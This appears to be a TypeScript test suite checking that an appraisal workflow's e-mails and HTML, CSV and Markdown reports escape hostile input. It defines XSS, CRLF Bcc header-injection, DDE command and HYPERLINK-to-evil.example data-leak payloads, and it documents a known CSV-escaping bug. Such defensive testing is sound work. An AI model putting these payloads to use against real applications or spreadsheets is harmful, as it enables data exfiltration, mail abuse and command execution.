/**
 * HTML, script, quotes, header-injection and spreadsheet-formula text in a
 * plan's names and in what people write (narratives, review comments) must
 * come out inert in every e-mail and report.
 *
 * The pure parts (composeMail, the report renderers) are driven with a
 * hostile copy of the seed plan through a whole simulated year of the domain
 * state machine, so every kind of mail is composed; then one real dispatch
 * goes through the worker and the SMTP sink and the received message is read
 * back.
 */
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import { loadPlan } from '../../client/planLoader';
import {
  appraisalTriggerSchema,
  parsePayload,
  reportSubmissionSchema,
  reviewCommentSchema,
  reviewDecisionSchema,
} from '../../domain/actions';
import { advance, initialState, nextWakeAt, type CycleState, type MailKind } from '../../domain/cycle';
import { applySubmission } from '../../domain/handlers';
import { applyComment, applyReview, applyTrigger } from '../../domain/groupActions';
import { composeMail, escapeHtml, type MailMessage } from '../../domain/mail';
import type { Plan } from '../../domain/plan';
import { buildReport, renderCsv, renderHtml, renderMarkdown } from '../../domain/report';
import { SEED_PLAN_PATH } from '../../infra/paths';
import type { supervisionCycle } from '../../workflows/cycle';
import { createTimeSkippingEnv, startHarness, type Harness } from '../helpers/temporal';

const XSS = '<script>alert(1)</script>';
const XSS_ESCAPED = '&lt;script&gt;alert(1)&lt;/script&gt;';
const QUOTES = '"quotes" & <b>';
const QUOTES_ESCAPED = '&quot;quotes&quot; &amp; &lt;b&gt;';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
const INJECT = '\r\nBcc: evil@x.example';
const ALL_KINDS: MailKind[] = ['dispatch', 'reminder', 'overdue', 'escalation', 'returned', 'quarterlySummary', 'review', 'reviewSummary', 'finalRequest', 'appraisal', 'deliveryFailure'];

/** The seed plan with hostile text in every name that reaches a mail or a report. */
function hostilePlan(): Plan {
  const plan = structuredClone(loadPlan(SEED_PLAN_PATH));
  plan.unit.name = { zh: `益阳市科技局${XSS}${INJECT}`, en: `Yiyang S&T Bureau ${QUOTES}${INJECT}` };
  const hto = plan.offices.find((o) => o.id === 'hi-tech-office')!;
  hto.name = { zh: `高新办${XSS}${INJECT}`, en: `High-Tech Office ${QUOTES}` };
  for (const o of plan.offices) if (o.id !== 'hi-tech-office') o.name = { zh: `${o.name.zh}${XSS}`, en: `${o.name.en} ${QUOTES}` };
  plan.assessmentGroup.leader.name = `杨耀武${XSS}`;
  plan.assessmentGroup.deputy!.name = `唐志斌${XSS}`;
  const cat = plan.categories[0];
  cat.name = { zh: `工作业绩${XSS}`, en: `Work results ${XSS}` };
  cat.indicators[0].name = { zh: `高新${XSS}`, en: `High-tech ${QUOTES}` };
  const t11 = cat.indicators[0].targets[0];
  t11.text = { zh: `高企数量${XSS}`, en: FORMULA };
  const t12 = cat.indicators[0].targets[1];
  t12.text = { zh: `产值${XSS}`, en: `@SUM(1+1)*cmd|' /C calc'!A0 ${XSS}` };
  const t21a = cat.indicators[1].targets[0];
  t21a.text = { zh: `引进新品种${XSS}`, en: `+1+cmd|' /C calc'!A0 ${QUOTES}` };
  for (const g of plan.scoring.grades) g.name = { zh: `${g.name.zh}${XSS}`, en: `${g.name.en} ${QUOTES}` };
  return plan;
}

const at = (iso: string) => Date.parse(iso);

describe('pure rendering with a hostile plan through a simulated year', () => {
  const plan = hostilePlan();
  const state: CycleState = initialState(plan, `cycle-x-2013${XSS}${INJECT}`, at('2013-03-20T00:00:00Z'), 0);
  const mails: MailMessage[] = [];
  const send = (now: number) => {
    for (const intent of advance(plan, state, now)) mails.push(composeMail(plan, state, intent));
  };

  beforeAll(() => {
    send(at('2013-03-29T02:00:00Z')); // the March dispatch (2013-Q1)
    const now = at('2013-03-30T02:00:00Z');
    applySubmission(
      plan,
      state,
      parsePayload(reportSubmissionSchema, { actor: { personId: 'hto-contact' }, officeId: 'hi-tech-office', period: '2013-Q1', values: [{ targetId: 't1-1', value: 3 }], narrative: `${XSS} ${QUOTES} ${FORMULA}` }, 'report'),
      now,
    );
    applyReview(plan, state, parsePayload(reviewDecisionSchema, { actor: { personId: 'yang-yaowu' }, officeId: 'hi-tech-office', period: '2013-Q1', decision: 'return', comment: `请补充 ${XSS} ${QUOTES} ${FORMULA}` }, 'review'), now);
    applyComment(plan, state, parsePayload(reviewCommentSchema, { actor: { personId: 'tang-zhibin' }, officeId: 'hi-tech-office', comment: `点评 ${XSS} ${QUOTES}` }, 'comment'), now);
    applyComment(plan, state, parsePayload(reviewCommentSchema, { actor: { personId: 'yang-yaowu' }, comment: `全体 ${FORMULA} ${XSS}` }, 'comment'), now);
    send(now);
    // Run the rest of the year on the domain state machine; nobody else reports, so everyone is chased.
    for (let i = 0; i < 5000 && state.phase !== 'appraised'; i++) {
      const wake = nextWakeAt(plan, state);
      if (wake === undefined) {
        applyTrigger(plan, state, parsePayload(appraisalTriggerSchema, { actor: { personId: 'yang-yaowu' }, action: 'finalize' }, 'trigger'), state.appraisal!.closeAt);
        send(state.appraisal!.closeAt);
        break;
      }
      send(wake);
    }
    expect(state.phase).toBe('appraised');
    // What the workflow does next: the report files are written, the result mailed; a mail failure is reported.
    state.appraisal!.reportFiles = ['/reports/appraisal.html'];
    state.pendingFailureNotices.push({ key: 'some/mail/key', error: `550 mailbox ${XSS} ${QUOTES}${INJECT}` });
    send(state.appraisal!.computedAt! + 1);
  });

  test('every kind of mail was composed, for every office', () => {
    expect(new Set(mails.map((m) => m.kind))).toEqual(new Set(ALL_KINDS));
    expect(new Set(mails.filter((m) => m.kind === 'dispatch').map((m) => m.officeId))).toEqual(new Set(plan.offices.map((o) => o.id)));
    expect(mails.length).toBeGreaterThan(100);
  });

  test('no raw markup in any HTML body: names, comments and errors are escaped', () => {
    for (const m of mails) {
      const where = `${m.kind} ${m.period} ${m.officeId}`;
      expect({ where, script: /<script/i.test(m.html), bold: /<b>/i.test(m.html), quotes: m.html.includes(QUOTES) }).toEqual({ where, script: false, bold: false, quotes: false });
      // The hostile text did get in (escaped): every message carries some of it.
      expect({ where, escaped: m.html.includes(XSS_ESCAPED) || m.html.includes(QUOTES_ESCAPED) }).toEqual({ where, escaped: true });
      // The only tags are the template's own.
      const tags = new Set([...m.html.matchAll(/<\/?([a-zA-Z!]+)/g)].map((x) => x[1].toLowerCase()));
      for (const t of tags) expect(['!doctype', 'html', 'head', 'meta', 'body', 'p', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'a']).toContain(t);
    }
  });

  test('the plain-text part carries the text as written (it is not HTML)', () => {
    const dispatch = mails.find((m) => m.kind === 'dispatch' && m.officeId === 'hi-tech-office')!;
    expect(dispatch.text).toContain(`高新办${XSS}`);
    const returned = mails.find((m) => m.kind === 'returned')!;
    expect(returned.html).toContain(escapeHtml(`请补充 ${XSS} ${QUOTES} ${FORMULA}`));
    expect(returned.text).toContain(`请补充 ${XSS}`);
    const summary = mails.find((m) => m.kind === 'reviewSummary')!;
    expect(summary.html).toContain(escapeHtml(`点评 ${XSS} ${QUOTES}`));
    expect(summary.html).toContain(escapeHtml(`唐志斌${XSS}`));
    const failure = mails.find((m) => m.kind === 'deliveryFailure')!;
    expect(failure.html).toContain(escapeHtml(`550 mailbox ${XSS} ${QUOTES}`));
  });

  test('subjects and headers are one line each: a name with "\\r\\nBcc: evil@x" cannot add a header', () => {
    const subjects = mails.map((m) => m.subject);
    expect(subjects.some((s) => s.includes('Bcc: evil@x.example'))).toBe(true); // the name is there, flattened
    for (const m of mails) {
      const fields = { subject: m.subject, date: m.date, ...m.headers, to: m.to.join(','), cc: m.cc.join(','), messageId: m.messageId };
      for (const [name, value] of Object.entries(fields)) expect({ name, value, crlf: /[\r\n]/.test(value) }).toEqual({ name, value, crlf: false });
      expect([...m.to, ...m.cc].some((a) => a.includes('evil@x.example'))).toBe(false);
    }
    expect(mails.find((m) => m.kind === 'deliveryFailure')!.headers['X-Cycle-Id']).toBe(`cycle-x-2013${XSS} Bcc: evil@x.example`);
  });

  describe('the appraisal report', () => {
    let report: ReturnType<typeof buildReport>;
    beforeAll(() => {
      report = buildReport(plan, state, state.appraisal!.computedAt!);
    });

    test('HTML: no raw <script>, every name escaped, only the template\'s tags', () => {
      const html = renderHtml(report);
      expect(html).not.toMatch(/<script/i);
      expect(html).not.toContain(QUOTES);
      expect(html).toContain(XSS_ESCAPED);
      expect(html).toContain(QUOTES_ESCAPED);
      expect(html).toContain(escapeHtml(FORMULA));
      const tags = new Set([...html.matchAll(/<\/?([a-zA-Z!]+[0-9]?)/g)].map((x) => x[1].toLowerCase()));
      for (const t of tags) expect(['!doctype', 'html', 'head', 'meta', 'title', 'body', 'h1', 'h2', 'p', 'b', 'table', 'thead', 'tbody', 'tr', 'th', 'td']).toContain(t);
    });

    test('CSV: a formula in a name is neutralised (quoted and prefixed), every cell quoted', () => {
      const csv = renderCsv(report);
      const rows = parseCsv(csv.replace(/^\uFEFF/, ''));
      expect(rows.length).toBe(report.appraisal.targets.length + 2);
      const cells = rows.flat();
      expect(cells).toContain(`'${FORMULA}`);
      expect(cells.some((c) => c.startsWith(`'@SUM(1+1)`))).toBe(true);
      expect(cells.some((c) => c.startsWith(`'+1+cmd`))).toBe(true);
      for (const c of cells) {
        // A cell a spreadsheet would read as a formula must be a plain number.
        if (/^[=+\-@\t\r]/.test(c)) expect({ c, number: /^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(c) }).toEqual({ c, number: true });
      }
      // Every field of the raw text is quoted: nothing outside quotes but separators.
      for (const line of csv.replace(/^\uFEFF/, '').split('\r\n').filter(Boolean)) expect(line.replace(/"(?:[^"]|"")*"/g, '')).toMatch(/^,*$/);
    });

    // KNOWN BUG (reported, not fixed here): csvCell in domain/report.ts exempts every cell matching
    // /^-?\d/ so that negative numbers stay numbers, which also lets the classic DDE payload through.
    test('KNOWN BUG: CSV: a formula that starts with a negative number ("-2+3+cmd|…") is neutralised too', () => {
      const hostile = structuredClone(report);
      const DDE = "-2+3+cmd|' /C calc'!A0";
      hostile.appraisal.targets[0].text = DDE;
      const rows = parseCsv(renderCsv(hostile).replace(/^\uFEFF/, ''));
      const textCell = rows.find((r) => r[0] === hostile.appraisal.targets[0].targetId)![3];
      expect(textCell).toBe(`'${DDE}`);
    });

    test('Markdown: a "|" or a line break in a name cannot break the tables', () => {
      const md = renderMarkdown(report);
      const tableRows = md.split('\n').filter((l) => /^\| t\d/.test(l));
      expect(tableRows.length).toBe(report.appraisal.targets.length);
      for (const row of tableRows) expect(row.replace(/\\\|/g, '').split('|').length - 2).toBe(8);
    });
  });
});

/** RFC 4180 CSV (quoted fields, "" for a quote, CRLF rows). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += ch;
  }
  if (cell || row.length) {
    row.push(cell);
    rows.push(row);
  }
  return rows;
}

describe('one real dispatch through the worker and the SMTP sink', () => {
  let env: TestWorkflowEnvironment;
  let h: Harness;
  beforeAll(async () => {
    env = await createTimeSkippingEnv();
    h = await startHarness(env);
  });
  afterAll(async () => {
    await h?.stop();
    await env?.teardown();
  });

  test('the received HTML is escaped and the subject is one line with no injected Bcc', async () => {
    const plan = structuredClone(loadPlan(SEED_PLAN_PATH));
    plan.unit.name.zh = `益阳市科技局${INJECT}`;
    const hto = plan.offices.find((o) => o.id === 'hi-tech-office')!;
    hto.name = { zh: `高新办${XSS}${INJECT}`, en: `High-Tech ${QUOTES}` };
    const workflowId = `security-escaping-${Date.now()}`;
    const handle = await env.client.workflow.start<typeof supervisionCycle>('supervisionCycle', {
      taskQueue: h.taskQueue,
      workflowId,
      args: [{ plan, options: { simulatedStart: '2013-03-20T00:00:00.000Z' } }],
    });
    await env.sleep(10 * 86_400_000); // past the 29 March dispatch
    const mine = (ms: typeof h.sink.messages) => ms.filter((m) => m.header('x-cycle-id') === workflowId && m.header('x-cycle-kind') === 'dispatch');
    await h.sink.waitFor((ms) => mine(ms).length >= 4, 30_000, 'the four March dispatches');
    const m = mine(h.sink.messages).find((x) => x.header('x-cycle-office') === 'hi-tech-office')!;
    const html = String(m.parsed.html);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toContain(QUOTES);
    expect(html).toContain(XSS_ESCAPED);
    expect(html).toContain(QUOTES_ESCAPED);
    expect(m.parsed.text).toContain(`高新办${XSS}`);
    expect(m.parsed.subject).toContain('高新办');
    expect(m.parsed.subject).not.toMatch(/[\r\n]/);
    // No header line was injected and nothing went to the injected address.
    const head = m.raw.toString('utf8').split(/\r\n\r\n/)[0];
    expect(head).not.toMatch(/^bcc:/im);
    expect(m.parsed.headers.has('bcc')).toBe(false);
    for (const x of mine(h.sink.messages)) expect(x.envelopeTo.some((a) => a.includes('evil'))).toBe(false);
    expect(m.envelopeTo).toEqual(['gaoxinban@kjj.yiyang.example']);
    await handle.terminate('test done');
  });
});
